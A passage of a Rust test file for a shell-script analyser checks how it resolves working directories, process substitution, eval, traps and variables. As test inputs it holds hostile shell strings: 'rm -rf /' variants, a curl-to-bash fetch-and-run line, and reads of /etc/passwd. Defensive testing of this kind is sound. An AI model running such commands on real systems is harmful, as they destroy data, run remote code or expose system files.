            interpreter: interpreter.map(str::to_string),
        },
        env: std::collections::HashMap::new(),
        working_dir: Some(t.path().to_path_buf()),
        timeout_ms: None,
        metadata: Default::default(),
    };
    for interpreter in [None, Some("bash")] {
        let n = crate::normalize(&request(interpreter));
        assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
        let rm = find(&n, "rm");
        assert_eq!(ctx(rm), ["script-file"]);
        assert_eq!(rm.working_dir, WorkingDir::Changed(vec!["/".into()]));
    }
    // A script for another interpreter is not read as shell.
    let n = crate::normalize(&request(Some("python3")));
    assert_eq!(n.commands.len(), 1);
}

#[test]
fn cd_sees_the_home_and_cdpath_the_script_gives_it() {
    let wd = |script: &str| {
        let n = run(script);
        n.commands.last().unwrap().working_dir.clone()
    };
    let changed = |d: &str| WorkingDir::Changed(vec![d.to_string()]);
    assert_eq!(wd("HOME=/etc cd; ls"), changed("/etc"));
    assert_eq!(wd("HOME=/etc; cd ~/ssh; ls"), changed("/etc/ssh"));
    assert_eq!(wd("export HOME=/srv; cd; ls"), changed("/srv"));
    assert!(matches!(wd("HOME=$X cd; ls"), WorkingDir::Unknown(_)));
    assert!(matches!(wd("read HOME; cd; ls"), WorkingDir::Unknown(_)));
    assert!(matches!(wd("CDPATH=/ cd etc; ls"), WorkingDir::Unknown(_)));
    assert_eq!(wd("CDPATH=/ cd ./etc; ls"), changed("./etc"));
    // A `HOME` given to another command does not change the shell's.
    assert_eq!(wd("HOME=/etc true; cd; ls"), changed("~"));
}

#[test]
fn a_shell_reading_a_process_substitution_runs_what_it_prints() {
    for script in [
        "bash <(echo 'rm -rf /')",
        "sh <(printf 'rm -rf /\\n')",
        "bash <(echo -e 'true\\nrm -rf /')",
    ] {
        let n = run(script);
        let rm = find(&n, "rm");
        assert_eq!(rm.argv, ["rm", "-rf", "/"], "{script}");
        assert_eq!(ctx(rm), ["script-file"], "{script}");
    }
    let n = run("bash <(curl -s https://x.invalid/i.sh)");
    assert!(
        n.unanalyzable
            .iter()
            .any(|u| u.contains("process substitution")),
        "{:?}",
        n.unanalyzable
    );
    // Reading a substitution as data is not running it.
    let n = run("diff <(ls a) <(ls b)");
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
}

#[test]
fn shell_init_idioms_and_trap_strings_are_analysed() {
    for script in [
        "eval \"$(ssh-agent -s)\"",
        "eval \"$(pyenv init -)\" && pyenv shell 3.12",
        "eval $(direnv hook bash)",
        "eval \"$(/usr/local/bin/starship init bash --print-full-init)\"",
        "eval `dircolors -b`",
    ] {
        let n = run(script);
        assert!(n.is_fully_analyzed(), "{script}: {:?}", n.unanalyzable);
        // The generator is a command of its own.
        assert!(
            n.commands
                .iter()
                .any(|c| ctx(c).contains(&"command-substitution") || ctx(c).contains(&"backticks")),
            "{script}"
        );
    }
    // The shell's PATH may change: later programs are not predicted.
    let n = run("eval \"$(pyenv init -)\"; python3 -V");
    assert_eq!(find(&n, "python3").program, None);
    for script in [
        "eval \"$(curl -s https://x.invalid)\"",
        "eval \"$(ssh-agent -s; rm -rf /)\"",
        "eval \"$(pyenv init - /tmp/x)\"",
        "eval \"$X\"",
    ] {
        assert!(!run(script).is_fully_analyzed(), "{script}");
    }

    let n = run("trap 'rm -f /tmp/x' EXIT; make");
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
    assert_eq!(ctx(find(&n, "rm")), ["trap"]);
    let n = run("trap \"$CLEANUP\" EXIT");
    assert!(!n.is_fully_analyzed());
    assert!(run("trap - EXIT; trap -p").is_fully_analyzed());
}

#[test]
fn variables_the_script_sets_to_plain_values_are_substituted() {
    let argv_of = |script: &str, name: &str| {
        let n = run(script);
        let c = find(&n, name).clone();
        (c.argv, c.dynamic)
    };
    let words = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    assert_eq!(
        argv_of("P=/etc/passwd; cat $P", "cat"),
        (words(&["cat", "/etc/passwd"]), false)
    );
    assert_eq!(
        argv_of("P=/etc; cat \"$P/passwd\"", "cat"),
        (words(&["cat", "/etc/passwd"]), false)
    );
    assert_eq!(
        argv_of("export D=/; rm -rf ${D}", "rm"),
        (words(&["rm", "-rf", "/"]), false)
    );
    assert_eq!(
        argv_of("X='a b'; touch \"$X\"", "touch"),
        (words(&["touch", "a b"]), false)
    );
    // Unknown: a run-time value, a later read, a loop, a subshell's own, an unquoted
    // value that would split, an assignment for one command only, a function call.
    for (script, name) in [
        ("P=$(pwd); cat $P", "cat"),
        ("P=/etc; read P; cat $P", "cat"),
        ("P=/etc; for P in a b; do cat $P; done", "cat"),
        ("(P=/etc); cat $P", "cat"),
        ("X='a b'; touch $X", "touch"),
        ("P=/etc cat $P", "cat"),
        ("P=/etc; f() { P=/x; }; f; cat $P", "cat"),
        ("P=/etc; if true; then P=/x; fi; cat $P", "cat"),
        ("P=/etc; : ${P:=/x}; (( P = 3 )); cat $P", "cat"),
        ("P='*'; rm $P", "rm"),
    ] {
        let (argv, dynamic) = argv_of(script, name);
        assert!(dynamic, "{script}: {argv:?}");
    }
    // A branch that keeps the value keeps it.
    assert_eq!(
        argv_of("P=/etc; if true; then ls; fi; cat $P", "cat"),
        (words(&["cat", "/etc"]), false)
    );
}
